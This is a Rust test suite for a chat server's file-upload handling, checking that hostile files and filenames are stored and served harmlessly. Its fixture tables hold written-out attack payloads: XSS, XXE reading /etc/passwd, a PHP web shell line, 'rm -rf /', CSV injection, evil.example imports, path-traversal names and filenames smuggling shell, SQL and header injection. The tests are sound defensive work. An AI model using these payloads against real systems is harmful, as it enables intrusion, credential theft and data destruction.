//! Uploads that somebody means harm with: none is served so that it runs, none lies outside its folder, none is held whole.

use std::time::Duration;

use chatcore_server::config::{AttachmentSettings, Settings};
use futures::StreamExt;
use futures::stream;
use reqwest::Method;
use serde_json::Value;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::attachments::{PNG, files, form, send, upload};
use crate::client::Client;
use crate::server::{Kind, TestServer, echo};

/// What becomes of an upload.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Fate {
    /// It is kept as text, and handed out as a download.
    Text,
    /// It is kept as an image, and shown as one.
    Image,
    /// It is kept as a document, and handed out as a download.
    Document,
    /// It is not taken.
    Refused,
}

use Fate::{Document, Image, Refused, Text};

/// Contents under innocent names, and names that are none.
const CONTENTS: [(&str, &[u8], Fate); 40] = [
    ("svg.png", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", Text),
    (
        "x.svg",
        b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        Text,
    ),
    ("x.html", b"<!DOCTYPE html><script>alert(1)</script>", Text),
    ("x.jpg", b"<html><body onload=alert(1)>", Text),
    ("x.xhtml", b"<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>", Text),
    ("x.js", b"alert(document.cookie)", Text),
    ("x.mjs", b"import 'https://evil.example/x.js'", Text),
    ("x.css", b"@import url(https://evil.example/x.css)", Text),
    ("x.xml", b"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", Text),
    ("laughs.xml", b"<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>", Text),
    ("x.php", b"<?php system($_GET['c']); ?>", Text),
    ("x.sh", b"#!/bin/sh\nrm -rf /", Text),
    ("x.md", b"[click](javascript:alert(1)) ![](https://evil.example/?c)", Text),
    ("x.csv", b"=cmd|'/c calc'!A1,2", Text),
    ("bom.html", b"\xef\xbb\xbf<script>alert(1)</script>", Text),
    ("x.mhtml", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<script>", Text),
    ("x.url", b"[InternetShortcut]\nURL=javascript:alert(1)", Text),
    ("json.html", b"{\"__proto__\": {\"admin\": true}}", Text),
    ("gif.js", b"GIF89a/*\x01\x00*/=1;alert(1)", Image),
    ("gif.html", b"GIF89a<script>alert(1)</script>", Image),
    ("png.html", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR<script>alert(1)</script>", Image),
    ("jpeg.html", b"\xff\xd8\xff\xe0\0\x10JFIF\0<script>alert(1)</script>", Image),
    ("webp.html", b"RIFF\x24\0\0\0WEBPVP8 <svg onload=alert(1)>", Image),
    ("gifar.gif", b"GIF89a\x01\0\x01\0\x80\0\0PK\x03\x04\x14\0META-INF/MANIFEST.MF", Image),
    ("bomb.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\0\0\0", Image),
    ("x.pdf", b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj", Document),
    ("pdf.html", b"%PDF-1.4\n<script>alert(1)</script>", Document),
    ("x.zip", b"PK\x03\x04\x14\0\0\0\x08\0../../../../etc/cron.d/x", Refused),
    ("bomb.txt", b"PK\x03\x04\x2d\0\x08\0\x08\0\0\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff", Refused),
    ("x.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xed\xc1\x01\x0d\0\0\0\xc2\xa0", Refused),
    ("x.exe.png", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0", Refused),
    ("x.elf.jpg", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", Refused),
    ("x.class", b"\xca\xfe\xba\xbe\0\0\0\x34", Refused),
    ("x.swf", b"CWS\x0a\x10\0\0\0\x78\x9c", Refused),
    ("x.wasm", b"\0asm\x01\0\0\0", Refused),
    ("x.ico", b"\0\0\x01\0\x01\0\x10\x10\0\0", Refused),
    ("utf16.html", b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0", Refused),
    ("utf7\0.txt", b"+ADw-script+AD4-\0", Refused),
    ("half.png", b"\x89PN", Refused),
    ("empty.png", b"", Refused),
];

/// What stands behind `name="file"` in the head of a part.
const HEADS: [&[u8]; 22] = [
    b"; filename=\"../../../../etc/passwd\"",
    b"; filename=\"..\\..\\..\\windows\\win.ini\"",
    b"; filename=\"/etc/shadow\"",
    b"; filename=\"C:\\\\boot.ini\"",
    b"; filename=\"kept/00/x\"",
    b"; filename=\"staged/../../x\"",
    b"; filename=\"..\"",
    b"; filename=\"\"",
    b"",
    b"; filename=\"~/.ssh/authorized_keys\"",
    b"; filename=\"a%0D%0ASet-Cookie: evil=1\"",
    b"; filename=\"a%22; filename=%22b.html\"",
    b"; filename=\"x\tname\"",
    b"; filename=\"con\"",
    b"; filename=\"x.txt:stream\"",
    b"; filename=\"$(reboot).txt\"",
    b"; filename=\"'; DROP TABLE attachments; --\"",
    b"; filename=\"<img src=x onerror=alert(1)>.txt\"",
    "; filename=\"photo\u{202e}gnp.exe\"".as_bytes(),
    "; filename=\"\u{feff}\u{200b}\u{2066}\"".as_bytes(),
    b"; filename=\"a.txt\"; filename=\"b.html\"",
    b"; filename=\"a.txt\"\r\nContent-Type: text/html\r\nContent-Disposition: inline",
];

async fn start(kind: Kind, max_bytes: u64) -> TestServer {
    let attachments = AttachmentSettings { max_bytes: Some(max_bytes), ..AttachmentSettings::default() };
    let settings = Settings { attachments, ..Settings::default() };
    TestServer::set_up(kind, settings, Some(echo(Duration::ZERO))).await
}

/// Fails unless what was taken is handed out so that no browser makes more of it.
async fn expect_harmless(user: &Client, made: &Value, bytes: &[u8], fate: Fate) {
    let name = made["name"].as_str().unwrap();
    assert!(
        !name.is_empty() && !name.contains(['/', '\\', '"', '<']) && !name.chars().any(char::is_control),
        "{name:?}"
    );
    let path = format!("/attachments/{}/content", made["id"].as_str().unwrap());
    let response = user.request(Method::GET, &path).send().await.unwrap();
    let header = |name: &str| response.headers().get(name).map_or("", |value| value.to_str().unwrap()).to_owned();
    let (how, kinds): (&str, &[&str]) = match fate {
        Text => ("attachment;", &["text/plain; charset=utf-8"]),
        Document => ("attachment;", &["application/pdf"]),
        _ => ("inline;", &["image/png", "image/jpeg", "image/gif", "image/webp"]),
    };
    assert!(kinds.contains(&header("content-type").as_str()), "{name}: {}", header("content-type"));
    assert!(header("content-disposition").starts_with(how), "{name}: {}", header("content-disposition"));
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert!(header("content-security-policy").contains("default-src 'none'; frame-ancestors 'none'; sandbox"));
    assert_eq!((header("cross-origin-resource-policy"), header("set-cookie")), ("same-origin".into(), String::new()));
    assert_eq!(response.bytes().await.unwrap(), bytes, "{name} is not what was uploaded");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_that_is_uploaded_runs() {
    let server = start(Kind::Sqlite, 1 << 20).await;
    let ada = server.user("ada").await;
    for (name, bytes, fate) in CONTENTS {
        let answer = upload(&ada, name, bytes).await;
        if fate == Refused {
            assert!([415, 422].contains(&answer.status), "{name}: {}", answer.body);
            continue;
        }
        let made: Value = answer.to(201);
        let kind = [("text", Text), ("image", Image), ("document", Document)].into_iter().find(|(_, it)| *it == fate);
        assert_eq!(made["kind"].as_str(), kind.map(|(kind, _)| kind), "{name}");
        expect_harmless(&ada, &made, bytes, fate).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_name_leads_out_of_the_folder() {
    let server = start(Kind::Sqlite, 1 << 20).await;
    let ada = server.user("ada").await;
    let mut taken = 0;
    for (at, head) in HEADS.into_iter().enumerate() {
        let bytes = format!("number {at}");
        let answer = send(&ada, form(head, bytes.as_bytes())).await;
        if answer.status == 201 {
            expect_harmless(&ada, &answer.to(201), bytes.as_bytes(), Text).await;
            taken += 1;
        } else {
            assert_eq!(answer.status, 422, "{}: {}", String::from_utf8_lossy(head), answer.body);
        }
    }
    assert!(taken >= 18, "{taken}");
    let inside = server.folder().join("chat.db.files");
    let (kept, outside): (Vec<_>, Vec<_>) =
        files(server.folder()).into_iter().partition(|path| path.starts_with(&inside));
    assert!(
        outside.iter().all(|path| path.file_name().unwrap().to_str().unwrap().starts_with("chat.db")),
        "{outside:?}"
    );
    assert_eq!(kept.len(), taken, "{kept:?}");
    for path in kept {
        let name = path.strip_prefix(inside.join("kept")).unwrap().display().to_string();
        assert!(name.chars().all(|letter| matches!(letter, '0'..='9' | 'a'..='f' | '/' | '.')), "{name}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forms_that_are_none_are_refused() {
    let server = start(Kind::Sqlite, 1 << 20).await;
    let ada = server.user("ada").await;
    let part = |name: &str| {
        format!("--limit\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"a.txt\"\r\n\r\nx\r\n")
    };
    let end = "--limit--\r\n";
    let bodies = [
        String::new(),
        end.to_owned(),
        part("file"),
        part("files") + end,
        part("file") + &part("file") + end,
        part("file") + &part("name") + end,
        part("file").repeat(10_000) + end,
        part("file").replace("limit", "other") + "--other--\r\n",
        format!("--limit\r\nX: {}", "x".repeat(1 << 20)),
        "preamble ".repeat(100_000) + &part("file") + end,
        format!("--limit\r\n{}\r\nx\r\n{end}", "X-Header: y\r\n".repeat(10_000)),
        part("file").replace("\r\n", "\n") + end,
        "--limit\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a".to_owned()
            + &"\0".repeat(99)
            + "\"\r\n\r\nx\r\n"
            + end,
    ];
    for body in bodies {
        let shown: String = body.chars().take(60).collect();
        let answer = send(&ada, body).await;
        assert!([400, 413, 415, 422].contains(&answer.status), "{shown}: {} {}", answer.status, answer.body);
    }
    for kind in ["text/plain", "multipart/form-data", "multipart/mixed; boundary=limit", "application/json"] {
        let request = ada.request(Method::POST, "/attachments").header("content-type", kind).body(form(b"", PNG));
        assert!([400, 415].contains(&ada.ask(request).await.status), "{kind}");
    }
    let page: Value = ada.get("/attachments").await.to(200);
    assert_eq!(page["items"].as_array().map(Vec::len), Some(0));
    assert_eq!(files(&server.folder().join("chat.db.files")).len(), 0, "something is left of what was refused");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_without_an_end_is_cut_where_the_limit_is() {
    let server = start(Kind::Sqlite, 1 << 20).await;
    let ada = server.user("ada").await;
    for head in ["; filename=\"a.txt\"\r\n\r\n", "; filename=\""] {
        let sent = Arc::new(AtomicUsize::new(0));
        let first = format!("--limit\r\nContent-Disposition: form-data; name=\"file\"{head}");
        let counted = Arc::clone(&sent);
        let rest = stream::repeat_with(move || {
            counted.fetch_add(1 << 16, Ordering::Relaxed);
            Ok::<_, std::io::Error>("a".repeat(1 << 16))
        });
        let body = reqwest::Body::wrap_stream(stream::iter([Ok(first)]).chain(rest));
        let request = ada.request(Method::POST, "/attachments");
        let request = request.header("content-type", "multipart/form-data; boundary=limit").body(body);
        // whoever goes on sending may see the connection close before the answer
        if let Ok(answer) = tokio::time::timeout(crate::client::PATIENCE, request.send()).await.unwrap() {
            assert!([413, 422].contains(&answer.status().as_u16()), "{answer:?}");
        }
        assert!(sent.load(Ordering::Relaxed) < 64 << 20, "it was read on and on");
    }
    // a file of the limit is taken, one of a byte more is not
    upload(&ada, "a.txt", &vec![b'a'; 1 << 20]).await.is(201);
    upload(&ada, "a.txt", &vec![b'a'; (1 << 20) + 1]).await.problem(413, "payload-too-large");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn many_small_files_at_once_do_no_harm() {
    let server = start(Kind::Sqlite, 1 << 20).await;
    let ada = server.user("ada").await;
    let sent = stream::iter(0..500).map(|at: usize| {
        let ada = &ada;
        async move { upload(ada, "a.txt", format!("{}", at % 50).as_bytes()).await.status }
    });
    let answers: Vec<u16> = sent.buffer_unordered(100).collect().await;
    assert!(answers.iter().all(|status| [201, 503].contains(status)), "{answers:?}");
    assert!(files(&server.folder().join("chat.db.files")).len() <= 50, "the same bytes lie there twice");
    ada.get("/attachments?limit=1").await.is(200);
}
